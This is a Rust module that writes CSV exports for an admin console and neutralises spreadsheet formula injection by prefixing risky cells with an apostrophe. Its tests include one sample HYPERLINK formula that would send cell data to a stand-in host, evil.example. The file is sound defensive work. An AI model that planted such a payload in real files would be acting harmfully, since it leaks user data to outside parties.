//! CSV exports (the accounts of the admin console, a project's members):
//! one writer, so that every cell a spreadsheet opens is defused.
//!
//! A cell beginning with `=`, `+`, `-`, `@`, a tab, a carriage return or a
//! line feed is read as a formula by spreadsheets (CSV injection): remote
//! display names reach these files, so such cells are prefixed with `'`
//! (OWASP's advice), which spreadsheets show as text. `clippy.toml` forbids
//! `csv::Writer` elsewhere.

use std::borrow::Cow;

/// A cell as written: prefixed with `'` when a spreadsheet would take it
/// for a formula.
pub fn csv_cell(value: &str) -> Cow<'_, str> {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n') => Cow::Owned(format!("'{value}")),
        _ => Cow::Borrowed(value),
    }
}

/// A CSV file of `rows` (the first is the header), every cell passed
/// through [`csv_cell`].
pub fn csv_file<R, C>(rows: impl IntoIterator<Item = R>) -> Result<Vec<u8>, csv::Error>
where
    R: IntoIterator<Item = C>,
    C: AsRef<str>,
{
    #[allow(clippy::disallowed_types)]
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        let cells: Vec<String> = row
            .into_iter()
            .map(|cell| csv_cell(cell.as_ref()).into_owned())
            .collect();
        writer.write_record(&cells)?;
    }
    writer
        .into_inner()
        .map_err(|error| error.into_error().into())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_defused() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(csv_cell(formula), format!("'{formula}"));
        }
        for plain in ["Camille", "2025-01-01", "camille@ac-rennes.fr", "", "a=b"] {
            assert_eq!(csv_cell(plain), plain);
        }
        let file = csv_file([["name", "x"], ["=1+1", "ok"]]).unwrap();
        assert_eq!(String::from_utf8(file).unwrap(), "name,x\n'=1+1,ok\n");
    }
}
